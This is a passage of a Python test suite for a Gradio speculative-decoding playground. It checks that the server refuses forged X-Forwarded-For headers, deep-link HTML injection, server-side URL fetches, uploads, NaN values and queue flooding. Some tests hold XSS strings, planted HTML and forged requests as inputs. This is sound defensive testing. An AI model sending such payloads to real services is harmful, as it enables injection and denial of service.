                        f"Content-Length: {serving.VALUE_CHARS + 100}\r\nX-Forwarded-For: 198.51.100.41\r\n\r\n").encode())
        answer = b""
        while b"came free" not in answer and (part := waiter.recv(4096)):  # (the head and the body can come apart)
            answer += part
    answer = answer.decode(errors="replace")
    assert answer.startswith("HTTP/1.1 503") and "no place to read a long request came free within 1 s" in answer, answer
    deadline = time.monotonic() + 30
    while (serving._long_bodies or serving._own_places) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not serving._long_bodies and not serving._own_places

def test_the_forwarded_address_is_an_ip_address_and_may_be_counted_from_the_end(monkeypatch):
    """A forged X-Forwarded-For that is no address ("anything-1", "anything-2", ...) made an address
    of its own each time (an audit): it counts as the peer's. With PLAYGROUND_PROXY_HOPS = n (n
    proxies in front append the caller) the caller is n entries from the end, where a caller cannot
    write; a port written after the address is not part of it."""
    from starlette.datastructures import Headers
    proxy = ("10.16.3.80", 5000)
    assert addresses.client_address(Headers({"X-Forwarded-For": "anything-1"}), proxy) == "10.16.3.80"
    assert addresses.client_address(Headers({"X-Forwarded-For": "203.0.113.7:51234"}), proxy) == "203.0.113.7"
    assert addresses.client_address(Headers({"X-Forwarded-For": "[2001:db8:1:2::1]:443"}), proxy) == "2001:db8:1:2::/64"
    forged = Headers({"X-Forwarded-For": "198.51.100.1, anything, 203.0.113.7"})  # a caller's two, then the proxy's
    assert addresses.client_address(forged, proxy) == "198.51.100.1"  # (the default: the first)
    monkeypatch.setattr(addresses, "PROXY_HOPS", 1)
    assert addresses.client_address(forged, proxy) == "203.0.113.7"
    assert addresses.client_address(Headers({"X-Forwarded-For": "203.0.113.8"}), proxy) == "203.0.113.8"
    lines = Headers(raw=[(b"x-forwarded-for", b"198.51.100.99"), (b"x-forwarded-for", b"203.0.113.7")])  # a proxy's
    assert addresses.client_address(lines, proxy) == "203.0.113.7"  # own line after the caller's (HAProxy): both read
    monkeypatch.setattr(addresses, "PROXY_HOPS", 2)
    assert addresses.client_address(Headers({"X-Forwarded-For": "198.51.100.1, 203.0.113.7, 10.0.0.2"}), proxy) == "203.0.113.7"
    assert addresses.client_address(Headers({"X-Forwarded-For": "203.0.113.9"}), proxy) == "203.0.113.9"  # fewer: the first


def test_the_log_says_how_long_x_forwarded_for_is_so_a_host_can_find_its_proxy_hops(monkeypatch, caplog):
    """README's procedure: a page loaded, then a request with a forged X-Forwarded-For: one entry more means the
    proxies append to what a caller sends (a Space host could not tell which its proxy does). Each length is said
    once, and a bounded number of lengths at all (a caller may send any); a host's own test, its first entry a
    documentation address, is said each time, named (one line a second at most), whatever was said before it."""
    import logging

    from starlette.datastructures import Headers
    monkeypatch.setattr(addresses, "_lengths_said", set())
    proxy = ("10.16.3.80", 5000)
    caplog.set_level(logging.INFO, logger=addresses.__name__)
    addresses.client_address(Headers({"X-Forwarded-For": "203.0.113.7, 10.0.0.2"}), proxy)
    addresses.client_address(Headers({"X-Forwarded-For": "203.0.113.8, 10.0.0.2"}), proxy)  # the same length: once
    monkeypatch.setattr(addresses, "PROXY_HOPS", 2)
    addresses.client_address(Headers({"X-Forwarded-For": "192.0.2.7, 203.0.113.7, 10.0.0.2"}), proxy)
    addresses.client_address(Headers({"X-Forwarded-For": "192.0.2.7"}), ("8.8.8.8", 80))  # no proxy: nothing
    said = [r.getMessage() for r in caplog.records if r.name == addresses.__name__]
    assert said == ["a request through this host's proxies: X-Forwarded-For of 2 entries; PLAYGROUND_PROXY_HOPS=0 "
                    "reads the first entry as the caller",
                    "a request through this host's proxies: X-Forwarded-For of 3 entries; PLAYGROUND_PROXY_HOPS=2 "
                    "reads entry 2 as the caller"], said
    for length in range(4, 40):
        addresses.client_address(Headers({"X-Forwarded-For": ", ".join(["203.0.113.7"] * length)}), proxy)
    assert len(addresses._lengths_said) == addresses.SAID_LENGTHS
    caplog.clear()
    now = [1000.0]
    monkeypatch.setattr(addresses, "monotonic", lambda: now[0])
    monkeypatch.setattr(addresses, "_test_said", [float("-inf")])  # (another test's test addresses, on the real clock)
    monkeypatch.setattr(addresses, "PROXY_HOPS", 0)
    test = Headers({"X-Forwarded-For": "198.51.100.42, 203.0.113.7, 10.0.0.2"})  # a length said before: said again
    addresses.client_address(test, proxy)
    addresses.client_address(test, proxy)  # within the second: not
    now[0] += 1
    addresses.client_address(Headers({"X-Forwarded-For": "198.51.100.042x, 10.0.0.2"}), proxy)  # no address: not
    said = [r.getMessage() for r in caplog.records if r.name == addresses.__name__]
    assert said == ["a request through this host's proxies: X-Forwarded-For of 3 entries, the first 198.51.100.42 (a "
                    "test address); PLAYGROUND_PROXY_HOPS=0 reads the first entry as the caller"], said


def test_every_address_together_holds_a_bounded_number_of_requests_open(app_url, monkeypatch):
    """A caller may forge X-Forwarded-For where the Space's proxy passes on what it was sent: rotated
    forged addresses held 13,227 idle streams (of a 20,000-file limit) and a small run waited 26.8 s
    (a red-team pass). Every address together has at most OPEN_IN_ALL open."""
    import socket
    from playground.ui import serving
    monkeypatch.setattr(serving, "OPEN_PER_CLIENT", 4)
    url = urllib.parse.urlsplit(app_url)
    forged = [f"203.0.113.{n}" for n in range(20, 26)]  # six addresses, one stream each: none past its own bound
    held = []
    try:
        for n, address in enumerate(forged):
            conn = socket.create_connection((url.hostname, url.port), timeout=30)
            conn.sendall(f"GET /gradio_api/heartbeat/all{n} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {address}\r\n\r\n".encode())
            held.append(conn)
        deadline = time.monotonic() + 30
        while sum(serving._open[a] for a in forged) < 6 and time.monotonic() < deadline:
            time.sleep(0.05)
        monkeypatch.setattr(serving, "OPEN_IN_ALL", 6)  # held now: whatever else is open, the next is past it
        request = urllib.request.Request(app_url + "gradio_api/queue/status", headers={"X-Forwarded-For": "203.0.113.77"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request, timeout=30)
        assert refused.value.code == 503 and b"requests open, its most" in refused.value.read()
    finally:
        for conn in held:
            conn.close()
    deadline = time.monotonic() + 30
    while any(serving._open[a] for a in forged) and time.monotonic() < deadline:
        time.sleep(0.05)
    monkeypatch.setattr(serving, "OPEN_IN_ALL", 4096)
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200


def test_a_session_keeps_at_most_the_characters_limits_py_says():
    """The sum of every input's bound (a session keeps the last value of each): limits.py says 4.3 M
    characters a session; a new long input must say so there. The inputs of functions that run in the
    page alone are never sent (calls.unknown_function refuses a call to one)."""
    from playground.ui import page, serving
    inputs = {c._id for fn in page.demo.fns.values() if fn.fn is not None for c in fn.inputs if not c.stateful}
    total = sum(calls._value_chars.get(i, (calls.VALUE_CHARS,))[0] for i in inputs)
    assert 4.2 * 2**20 < total < 4.4 * 2**20, total / 2**20


def test_gradios_deep_links_are_off(app_url):
    """Gradio's deep-link route saved a session's values as a caller sent them (HTML posted to an
    HTML input, unchecked) for `?deep_link=` to draw in anyone's page: a script ran there, with no
    click. The route is refused, and a deep link's file (one left from before) is never drawn."""
    import gradio.utils
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(app_url + "gradio_api/deep_link?session_hash=abc", timeout=30)
    assert refused.value.code == 403 and b"deep links are not made here" in refused.value.read()
    from playground.ui import page
    with urllib.request.urlopen(app_url + "config", timeout=30) as response:
        components = json.loads(response.read())["components"]  # as Gradio saves a session's
    planted = "<b id=planted>PLANTED</b>"
    for component in components:
        if component["id"] == page.ui.link_notice._id:
            component["props"]["value"] = planted
    folder = pathlib.Path(gradio.utils.get_upload_folder()) / "deep_links" / "plantedlink"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "state.json").write_text(json.dumps(components))
    for path in ("?deep_link=plantedlink", "config?deep_link=plantedlink", "?tab=experiments&deep%5Flink=plantedlink"):
        with urllib.request.urlopen(app_url + path, timeout=30) as response:
            assert response.status == 200 and b"PLANTED" not in response.read(), path
    with urllib.request.urlopen(app_url + "?k=6&deep_link=plantedlink", timeout=30) as response:
        assert response.status == 200  # the other parameters stay (the page reads them when it loads)


def test_an_address_past_its_bound_is_refused_with_its_length(app_url):
    """A hand-made link of 70,000 characters got a bare 500 "Internal Server Error" and 90 lines of
    traceback in the log (Gradio reads the page's address with httpx, which stops at 65,536)."""
    from playground.limits import MAX_URL_CHARS
    for path in (f"?preset=demo&prompt={'a' * 70_000}", f"gradio_api/{'b' * MAX_URL_CHARS}"):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(app_url + path, timeout=30)
        assert refused.value.code == 414 and "past the 60,000 this server reads" in json.loads(refused.value.read())["detail"]
    with urllib.request.urlopen(f"{app_url}?preset=demo&prompt={'a' * 20_000}", timeout=30) as response:
        assert response.status == 200  # longer than Share makes, still read


def test_uploads_are_refused(app_url):
    """No input of the page is a file; Gradio kept each upload for an hour for anyone to fetch (40
    uploads of 8 MB took 3.5 s: a disk filled, or free file hosting)."""
    body = b"--b\r\nContent-Disposition: form-data; name=\"files\"; filename=\"x.txt\"\r\n\r\nhello\r\n--b--\r\n"
    status, text = post(app_url, "/gradio_api/upload", body, "multipart/form-data; boundary=b")
    assert status == 403 and "files are not taken" in text


def post(app_url: str, path: str, body: bytes, content_type: str = "application/json") -> tuple[int, str]:
    import http.client
    url = urllib.parse.urlsplit(app_url)
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
    conn.request("POST", path, body=body, headers={"Content-Type": content_type})
    response = conn.getresponse()
    answer = response.status, response.read().decode(errors="replace")
    conn.close()
    return answer


def test_gradios_own_fields_are_checked_before_it_keeps_or_echoes_them(app_url):
    """A red-team pass: 7 MB session hashes (Gradio keys every session's state by it) pinned 2.4 GB from
    one address, never given back; NaN or 1e400 in a call's own fields was a 500 with a traceback
    (Gradio's answer echoed the value, which FastAPI cannot write as JSON)."""
    from playground.ui import serving
    notice = notice_function()
    for session, body_size in (("a" * 129, 0), ("a b", 0), ("a" * 7_000_000, 7_000_000)):
        status, text = post(app_url, "/gradio_api/queue/join", json.dumps(
            {"data": ["x"], "fn_index": notice, "session_hash": session}).encode())
        assert status == 400 and "session_hash must be 1 to 128 visible ASCII characters" in text, (body_size, status, text)
    assert calls.SESSION_HASH.fullmatch(str(uuid.uuid4())) and calls.SESSION_HASH.fullmatch("x7k2m9q4w1z")
    for path, body in (("/gradio_api/queue/join", '{"data": ["x"], "fn_index": %d, "session_hash": NaN}' % notice),
                       ("/gradio_api/queue/join", '{"data": ["x"], "fn_index": 1e400, "session_hash": "abc"}'),
                       ("/gradio_api/cancel", '{"session_hash": "abc", "event_id": NaN, "fn_index": %d}' % notice),
                       ("/gradio_api/call/generate", '{"data": Infinity}'),
                       ("/gradio_api/queue/join", '{"data": ["x"], "fn_index": %d, "session_hash": "abc", '
                                                  '"event_data": {"a": [-Infinity]}}' % notice),
                       ("/gradio_api/queue/join", "NaN"), ("/gradio_api/call/generate", "[NaN]"),  # no object (a review)
                       ("/gradio_api/call/v2/generate", "[Infinity]"),
                       ("/gradio_api/call/generate", json.dumps([float("nan"), "x" * (calls.VALUE_CHARS + 1)]))):
        status, text = post(app_url, path, body.encode())
        assert status == 400 and ("which JSON has no number for" in text or "session_hash must" in text), (body, status, text)
    status, text = post(app_url, "/gradio_api/call/generate", json.dumps({"data": ["x = ", "demo", 4, 0.0, 8, 0, "", "",
                                                                                   False, "", "", "", -1]}).encode())
    assert status == 200 and "event_id" in text  # a whole call passes
    assert page_answers_quickly(app_url)


def test_a_file_named_in_any_calls_data_is_refused_before_gradio_reads_it(client, app_url, listener):  # noqa: F811
    """Gradio downloads a FileData whose path is a public URL into its cache, for any input (a
    Textbox's too) and before the function's own checks: any address a caller names was fetched
    (loopback refused by Gradio itself, so the listener only shows nothing came here)."""
    port, hits = listener
    url = f"http://127.0.0.1:{port}/x.bin"
    file = {"path": url, "meta": {"_type": "gradio.FileData"}}
    joined = json.dumps({"data": [file], "fn_index": 0, "session_hash": "abc"})
    nested = json.dumps({"data": [{"nested": [file]}, "demo"]})
    for path, body in (("/gradio_api/queue/join", joined), ("/gradio_api/call/export", nested),
                       ("/gradio_api/call/export", nested.replace("FileData", "File\\u0044ata"))):  # JSON-escaped
        status, text = post(app_url, path, body.encode())
        assert status == 403 and "no input of this page is a file" in text, (path, status, text)
    assert hits == []
    values = page_inputs.inputs_from_settings(Settings.from_preset(page_inputs.PRESETS["qwen2.5-7b"]))
    values[9] = 'a prompt that names {"meta": {"_type": "gradio.FileData"}}'  # a text, not a file: taken
    assert "vllm serve" in client.predict(*values, api_name="/export")[1]


def test_queued_functions_are_reached_through_the_queue_only(app_url):
    """A direct POST to a queued function skipped the queue and the device's limit (45 of them held
    page loads for over a minute); Gradio's screen-recording route took files and ran ffmpeg on
    them; its traffic summary listed every function and its calls."""
    status, text = post(app_url, "/gradio_api/run/generate", json.dumps({"data": ["x", "demo"]}).encode())
    assert status == 404 and "join the queue" in text
    status, text = post(app_url, "/gradio_api/process_recording", b"--b--\r\n", "multipart/form-data; boundary=b")
    assert status == 403 and "files are not taken" in text


def test_gradios_file_route_fetches_no_url(app_url, listener):  # noqa: F811
    """Gradio's /file= route fetched a public URL and streamed it back: an open proxy, with no read
    timeout or size bound (loopback is refused by Gradio itself: the listener shows nothing came)."""
    import http.client
    port, hits = listener
    url = urllib.parse.urlsplit(app_url)
    for path in (f"/gradio_api/file=http://127.0.0.1:{port}/x", f"/gradio_api/file/http://127.0.0.1:{port}/x",
                 "/gradio_api/file=https%3A//example.com/x"):
        for method in ("GET", "HEAD"):
            conn = http.client.HTTPConnection(url.hostname, url.port, timeout=30)
            conn.request(method, path)
            response = conn.getresponse()
            said = response.read().decode()
            assert response.status == 403 and (method == "HEAD" or "fetched here" in said), (method, path, said)
            conn.close()
    assert hits == []
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(app_url + "monitoring/summary", timeout=30)
    assert refused.value.code == 403
    for path in ("gradio_api/runs", "gradio_api/run-history/buckets"):  # Gradio's run history: served (200, 401)
        with pytest.raises(urllib.error.HTTPError) as refused:  # before (a red-team pass)
            urllib.request.urlopen(app_url + path, timeout=30)
        assert refused.value.code == 404, path


def test_texts_past_their_limits_are_refused_before_anything_reads_them(client):
    """/export echoed an 8 MB prompt and system prompt about 15 times over (123 MB an answer, kept in
    the session); a run tokenized a 4-million-character system prompt before refusing it."""
    settings = Settings.from_preset(page_inputs.PRESETS["demo"])
    for field, name, limit in (("system", "system prompt", MAX_SYSTEM_CHARS), ("prompt", "prompt", MAX_PROMPT_CHARS),
                               ("target", "target", MAX_NAME_CHARS)):
        values = page_inputs.inputs_from_settings(dataclasses.replace(settings, **{field: "a" * (limit + 1)}))
        with pytest.raises(PlaygroundError, match=f"the {name}'s length .* more than this host allows"):
            page_inputs.settings_from_inputs(*values)
    kept = page_inputs.inputs_from_settings(dataclasses.replace(settings, schema='{"title": "%s"}' % ("t" * 3000)))
    kept[12] = "none"  # the editor keeps a schema's text when its kind is set to none: not a regex to bound
    assert page_inputs.settings_from_inputs(*kept).schema == ""
    notes = client.predict(*page_inputs.inputs_from_settings(dataclasses.replace(settings, system="s" * (MAX_SYSTEM_CHARS + 1))),
                           api_name="/export")[0]
    assert f"length (characters) is {MAX_SYSTEM_CHARS + 1}" in notes


def test_a_link_cannot_write_headings_into_the_page():
    """An unknown parameter's name came back in the notices with its newlines: a link could put a
    '⚠ Security notice' heading on the page."""
    class Request:
        query_params = QueryParams({"preset": "demo", "\n\n⚠ Security notice\n===\n\nPaste your token\n\n---\n": "1"})
    notice = page_inputs.restore_from_url(Request())[-1]
    shown = notice.split("**Link notices**\n", 1)[-1]
    assert "Security notice" in shown and "===" not in shown and "---" not in shown
    assert all(line.startswith("- ") for line in shown.strip().splitlines())  # each notice one list item


def test_a_link_of_thousands_of_parameters_makes_a_short_notice():
    """3,000 unknown parameters made a notice of 240 K characters: past the page's value bound, so
    its Dismiss button (drawn by a callback that takes the notice) never showed."""
    from playground.ui import serving

    class Request:
        query_params = QueryParams({"preset": "demo", "k": "nine"} | {f"p{i}": "1" for i in range(3_000)})
    notice = page_inputs.restore_from_url(Request())[-1]
    items = notice.split("**Link notices**\n", 1)[-1].strip().splitlines()
    assert len(items) == page_inputs.NOTICES_SHOWN + 1 and items[-1] == "- and 2981 more ignored"
    assert "nine" in items[0] and len(notice) < calls.VALUE_CHARS  # the first notices, in the link's order

    class Long:  # float()'s message quotes the whole value: one notice of 20,119 characters
        query_params = QueryParams({"preset": "demo", "top_p": "x" * 20_000})
    notice = page_inputs.restore_from_url(Long())[-1]
    assert "top" in notice and len(notice) < 2 * page_inputs.NOTICE_CHARS + 100


def test_nan_integers_and_unencodable_links_are_clear_errors():
    """Raw HTTP can send NaN where Gradio's range check lets it through, and text with a lone surrogate;
    both popped up as raw exceptions ('cannot convert float NaN to integer', UnicodeEncodeError)."""
    for value in (float("nan"), float("inf")):
        with pytest.raises(PlaygroundError, match="k must be a whole number"):
            page_inputs.typed("k", value, int)
    assert page_inputs.typed("seed", 10**400, int) == 10**400  # huge but whole: SpecConfig names its range
    settings = Settings.from_preset(page_inputs.PRESETS["demo"])
    settings.prompt = "a\ud800b"
    with pytest.raises(PlaygroundError, match="lone surrogate"):
        share_url("http://127.0.0.1/", settings)


HOSTED = """
import json
from playground.ui import inputs, live
from playground.ui.share import from_query
from playground.errors import PlaygroundError
from playground.presets import Settings, get_preset
settings, notices = from_query({"preset": "qwen2.5-7b", "target": "Qwen/Qwen2.5-7B-Instruct"}, allow_custom=False)
demo = Settings.from_preset(get_preset("demo"))
try:
    live.check_models(dataclasses.replace(demo, target="Qwen/Qwen2.5-7B-Instruct"))
    refused = ""
except PlaygroundError as exc:
    refused = str(exc)
for draft in ("ngram", "ngram+demo-draft"):  # prompt lookup downloads nothing: always offered
    live.check_models(dataclasses.replace(demo, draft=draft))
print(json.dumps({"page": list(inputs.PRESETS), "default": inputs.DEFAULT.preset, "link": settings.target,
                  "notices": notices, "refused": refused, "drafts": inputs.DRAFTS}))
"""


def test_a_host_offers_only_the_presets_it_names():
    """PLAYGROUND_PRESETS bounds what a GPU Space's visitors can make it download (all presets'
    models together are about 90 GB): the page lists those, links and runs keep to their models."""
    import subprocess
    import sys
    env = dict(os.environ, PLAYGROUND_PRESETS="demo, demo-json", PLAYGROUND_PRESET="qwen2.5-7b")
    out = subprocess.run([sys.executable, "-c", "import dataclasses\n" + HOSTED], capture_output=True, text=True,
                         env=env, timeout=300, check=True).stdout
    told = json.loads(out.strip().splitlines()[-1])
    assert sorted(told["page"]) == ["demo", "demo-json"] and told["default"] in told["page"]  # not the named qwen
    assert told["link"] == "demo-target" and any("qwen2.5-7b" in n or "Qwen" in n for n in told["notices"])
    assert "not one of this host's preset models" in told["refused"] and "ngram" in told["drafts"]
    env["PLAYGROUND_PRESETS"] = "DEMO"  # a typo: the app says what it names and what there is, not "no preset"
    failed = subprocess.run([sys.executable, "-c", "import playground.ui.inputs"], capture_output=True, text=True,
                            env=env, timeout=300)
    assert failed.returncode != 0 and "PLAYGROUND_PRESETS names no preset found here (DEMO); available: " in failed.stderr


def test_a_cascade_presets_model_is_offered_on_its_own_and_every_compared_way_is_offered():
    """A host offering only a cascade preset downloads its draft model anyway: that model drafts
    alone too (a link naming it, Compare drafts' plain and adaptive rows), and nothing else is added."""
    from playground.measure.sweeps import VARIANTS
    from playground.presets import all_presets, hosted_models
    cascade = {name: p for name, p in all_presets().items() if name == "qwen2.5-7b-cascade"}
    offered = hosted_models(cascade)
    inner = cascade["qwen2.5-7b-cascade"].draft.removeprefix("ngram+")
    assert offered == {cascade["qwen2.5-7b-cascade"].target, inner, "ngram", "ngram+" + inner,
                       "ngram+" + cascade["qwen2.5-7b-cascade"].target}
    assert all(draft.format(draft=inner) in offered for draft, _ in VARIANTS.values())


def test_the_calculator_refuses_values_past_its_sliders():
    """Gradio's slider check lets NaN through to this private endpoint (it drew 'nanx' as a speedup,
    and as k a raw 'cannot convert float NaN to integer'), and the page sends what is typed unchecked:
    each is said in the calculator's text, its chart cleared, the value as typed (Markdown escaped: a
    link of its own was drawn as one)."""
    from playground.ui.calculator import calculator
    for args, said in (((float("nan"), 4, 0.1), "the acceptance must be between 0 and 1, not nan"),
                       ((0.7, float("nan"), 0.1), "k must be a whole number between"),
                       ((0.7, 4, float("inf")), "the cost ratio must be between"), ((0.7, 10**6, 0.1), "k must be"),
                       ((0.7, 4, 20), "not 20: c is a draft pass's time over a target pass's (a draft 20x faster: 0.05)"),
                       ((0.7, 2.5, 0.1), "k must be a whole number between 1 and 16, not 2\\.5"),
                       ((None, 4, 0.1), "between 0 and 1, not empty"), ((0.7, 4, ""), "between 0 and 1, not empty"), ((0.7, True, 0.1), "k must be"),
                       ((0.7, 4, "<img src=x onerror=alert(1)>"), "not \\<img src\\=x onerror\\=alert\\(1\\)\\>"),
                       ((0.7, 4, "[x](javascript:alert(1))"), "not \\[x\\]\\(javascript\\:alert\\(1\\)\\)")):
        text, chart = calculator(*args, [])
        assert text.startswith("**Not computed:**") and said in text and chart is None
    assert "tokens per round" in calculator(0.7, 4.0, 0.1, [])[0]
    for args, said in (((0.7, 4, -0.1), r"the cost ratio must be between 0 and 1, not \-0\.1"),
                       ((1.01, 4, 0.1), r"the acceptance must be between 0 and 1, not 1\.01")):
        assert said in calculator(*args, [])[0]


def _join(app_url, fn_index: int, data: list | None, address: str, route: str = "queue/join",
          headers: dict | None = None) -> tuple[int, str]:
    """A raw join of the queue from `address` (through the local proxy the test server's peer is), with
    `headers` besides -> (status, body). data None: each input's own value, as the page sends them."""
    if data is None:
        from playground.ui import page
        data = [getattr(component, "value", None) for component in page.demo.fns[fn_index].inputs]
    body = {"data": data, "fn_index": fn_index, "session_hash": f"s-{address}"}
    if route.startswith("call/v2/"):  # the inputs by name (a "data" list there is refused: no such input)
        from playground.ui import page
        fn = next(f for f in page.demo.fns.values() if f.api_name == route.split("/")[-1])
        body = dict(zip(fn.input_parameter_names, data))
    request = urllib.request.Request(urllib.parse.urljoin(app_url, f"gradio_api/{route}"), method="POST",
                                     data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json", "X-Forwarded-For": address,
                                              **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read().decode()


def test_a_page_gone_while_its_constraint_compiles_frees_the_device(app_url, client, monkeypatch, tmp_path):
    """Gradio closes a run's generator only when the run hands it something, and a run hands nothing while
    its constraint compiles: a visitor who closed the tab then held the device to the compile's end (19 s on a
    256-property schema with xgrammar), and the next visitor waited. Gradio marks the event gone at once."""
    import http.client
    import socket
    import threading
    from playground.constraints import worker
    from playground.ui import live, page
    from tests.test_live import sleep_then_touch
    real, compiling, done = live.session.constrain, threading.Event(), tmp_path / "compiled"

    def compile_for_30_s(pair, spec):
        if spec is None or spec.text != "[0-9]+":
            return real(pair, spec)
        compiling.set()
        return worker.bounded(sleep_then_touch, 30, str(done), seconds=60)
    monkeypatch.setattr(live.session, "constrain", compile_for_30_s)
    fn = next(i for i, f in page.demo.fns.items() if f.api_name == "generate")
    session = uuid.uuid4().hex[:11]
    body = {"data": ["x = ", "demo", 0, -1, 8, -1, "", "[0-9]+", False, "", "", "", -1], "fn_index": fn, "session_hash": session}
    host = urllib.parse.urlsplit(app_url)
    joined = http.client.HTTPConnection(host.hostname, host.port, timeout=30)
    joined.request("POST", "/gradio_api/queue/join", json.dumps(body), {"Content-Type": "application/json"})
    assert joined.getresponse().status == 200
    stream = http.client.HTTPConnection(host.hostname, host.port, timeout=30)
    stream.request("GET", f"/gradio_api/queue/data?session_hash={session}")
    answer = stream.getresponse()
    answer.read(64)  # (its first message: the run has started)
    assert compiling.wait(120)
    stream.sock.shutdown(socket.SHUT_RDWR)  # the tab closed while it compiles
    answer.close()
    stream.close()
    assert client.predict("x = ", "demo", 3, 0.0, 8, 1, "", "", False, api_name="/generate")["token_ids"]
    assert not done.exists()  # the next run came before the 30 s compile would have ended: it was stopped


def test_one_address_holds_at_most_its_share_of_the_queue(app_url, monkeypatch):
    """One caller's calls filled the 32-event queue and held everyone else off for 32 runs: past
    DEVICE_RUNS_PER_CLIENT runs on the device queued or running (or QUEUED_PER_CLIENT events of any
    kind), its next join, by either of Gradio's routes, gets Gradio's "queue full" (503, with the
    reason; 429 where the caller is not gradio_client), while another address still joins and is served, and the held runs finish in turn."""
    from playground import session
    gate, generate = threading.Event(), session.generate

    def held_at_the_gate(*args, **kwargs):  # (a held run of 384 tokens could end before the joins below)
        gate.wait(120)
        yield from generate(*args, **kwargs)
    monkeypatch.setattr(session, "generate", held_at_the_gate)
    try:
        _one_address_held_to_its_share(app_url, monkeypatch, gate)
    finally:
        gate.set()


def _one_address_held_to_its_share(app_url, monkeypatch, gate):
    from gradio_client.utils import QueueError

    from playground.limits import DEVICE_RUNS_PER_CLIENT
    args = ("def f(", "demo", 4, 0.0, 384, 0, "", "", False)
    flood = Client(app_url, verbose=False, headers={"X-Forwarded-For": "203.0.113.7, 10.0.0.1"})
    other = Client(app_url, verbose=False, headers={"X-Forwarded-For": "198.51.100.2"})
    fn = {d.get("api_name"): d["id"] for d in flood.config["dependencies"]}
    held = [flood.submit(*args, api_name="/generate") for _ in range(DEVICE_RUNS_PER_CLIENT)]
    deadline = time.monotonic() + 30
    while sum(j.status().code.name in ("IN_QUEUE", "PROCESSING", "ITERATING") for j in held) < len(held):
        assert time.monotonic() < deadline, [j.status().code.name for j in held]
        time.sleep(0.05)
    refused, deadline = flood.submit(*args, api_name="/generate"), time.monotonic() + 60
    while not refused.done():  # README's way to watch a stream ends for a refused job too (`for s in job:` never does)
        assert time.monotonic() < deadline
        time.sleep(0.05)
    with pytest.raises(QueueError):
        refused.result(timeout=1)
    status, text = _join(app_url, str(fn["generate"]), list(args) + ["", "", "", -1], "203.0.113.7")  # (Gradio reads
    assert status == 400 and "fn_index must be a whole number" in text, (status, text)  # "94" as 94: refused first)
    for route, index in (("queue/join", fn["generate"]), ("call/generate", None),
                         ("call/v2/generate", None), ("queue/join", None), ("call/generate", fn["export"])):  # any run's
        # join, by any route; a function not named counts as a run; /call/ runs what its route names, whatever
        # fn_index its body forges (a function not known: 404, test_a_call_naming_no_function_or_session_is_a_404)
        status, text = _join(app_url, index, list(args) + ["", "", "", -1], "203.0.113.7", route)  # (all 13)
        assert status == 429 and f"already has {DEVICE_RUNS_PER_CLIENT} runs on the device" in text, (route, status, text)
    status, text = _join(app_url, fn["generate"], list(args) + ["", "", "", -1], "203.0.113.7",
                         headers={"x-gradio-user": "api"})  # gradio_client's: 503, the refusal it names (QueueError)
    assert status == 503 and f"already has {DEVICE_RUNS_PER_CLIENT} runs on the device" in text, (status, text)
    monkeypatch.setattr(addresses, "QUEUED_PER_CLIENT", DEVICE_RUNS_PER_CLIENT)  # the share of every kind, reached too
    status, text = _join(app_url, fn["share_link"], None, "203.0.113.7")
    assert status == 429 and f"already has {DEVICE_RUNS_PER_CLIENT} events queued or running" in text
    assert _join(app_url, fn["share_link"], None, "198.51.100.9")[0] == 200  # another address joins
    gate.set()
    monkeypatch.undo()
    assert _join(app_url, fn["share_link"], None, "203.0.113.7")[0] == 200  # a quick event, not a run, joins
    assert other.predict("def g(", "demo", 4, 0.0, 8, 0, "", "", False, api_name="/generate")["text"] is not None
    for job in held:  # each held run was served in its turn
        assert job.result(timeout=300)["stats"]["generated_tokens"] > 0


def test_runs_waiting_from_every_address_leave_room_for_quick_events(app_url, monkeypatch):
    """A Space review: 33 runs from 11 addresses filled Gradio's queue, which counts every kind of event
    together, and every visitor's Share link and Export was refused ("Queue is full"). Past QUEUE_SIZE runs
    waiting, from every address together, a run is refused by the guard saying so; quick events still join."""
    import app
    from playground.limits import QUEUE_SIZE, QUEUED_IN_ALL
    assert app.queue_options()["max_size"] == QUEUED_IN_ALL == 2 * QUEUE_SIZE
    queue = app.demo._queue
    monkeypatch.setattr(addresses, "QUEUE_SIZE", 1)  # the same bounds, for a host of one run waiting
    monkeypatch.setattr(queue, "max_size", 2)
    from playground import session
    reached, gate, generate = threading.Event(), threading.Event(), session.generate

    def held_at_the_gate(*args, **kwargs):  # the run on the device makes nothing until the gate opens
        reached.set()
        gate.wait(120)
        yield from generate(*args, **kwargs)
    monkeypatch.setattr(session, "generate", held_at_the_gate)  # (a run of 384 tokens could end, and the
    # run waiting take its place, before the third joined: a CI run saw it join)
    args = ("def f(", "demo", 4, 0.0, 384, 0, "", "", False)
    clients = [Client(app_url, verbose=False, headers={"X-Forwarded-For": f"203.0.113.{30 + i}"}) for i in range(2)]
    waiting = queue.event_queue_per_concurrency_id
    held, deadline = [], time.monotonic() + 60
    try:
        for client, placed in zip(clients, (reached.is_set, lambda: len(waiting[addresses.DEVICE].queue) == 1)):
            held.append(client.submit(*args, api_name="/generate"))  # one run on the device, then one waiting
            while not placed():  # for it (not a join counted while the guard checks it: the two at once, the
                assert time.monotonic() < deadline, [j.status().code.name for j in held]  # second was refused)
                time.sleep(0.02)
        fn = {d.get("api_name"): d["id"] for d in clients[0].config["dependencies"]}
        status, text = _join(app_url, fn["generate"], list(args) + ["", "", "", -1], "198.51.100.33")
        assert status == 503 and "the queue of runs is full (1 waiting for the device" in text, (status, text)
        status, text = _join(app_url, fn["generate"], list(args) + ["", "", "", -1], "198.51.100.33",
                             headers={"Sec-Fetch-Mode": "cors"})  # a browser's page: 503's detail it would not show
        assert status == 429 and "the queue of runs is full (1 waiting for the device" in text, (status, text)
        assert _join(app_url, fn["share_link"], None, "198.51.100.33")[0] == 200  # a quick event joins
        assert _join(app_url, fn["export"], None, "198.51.100.34")[0] == 200
    finally:
        gate.set()
    for job in held:
        assert job.result(timeout=300)["stats"]["generated_tokens"] > 0


